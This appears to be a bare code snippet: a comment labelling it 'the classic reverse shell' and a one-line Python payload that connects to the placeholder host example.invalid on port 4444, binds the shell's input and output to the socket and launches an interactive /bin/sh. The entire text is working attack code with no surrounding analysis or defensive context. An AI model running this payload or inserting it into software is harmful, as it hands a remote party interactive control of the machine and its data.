# why: the classic reverse shell
import socket,subprocess,os;s=socket.socket();s.connect(("example.invalid",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])
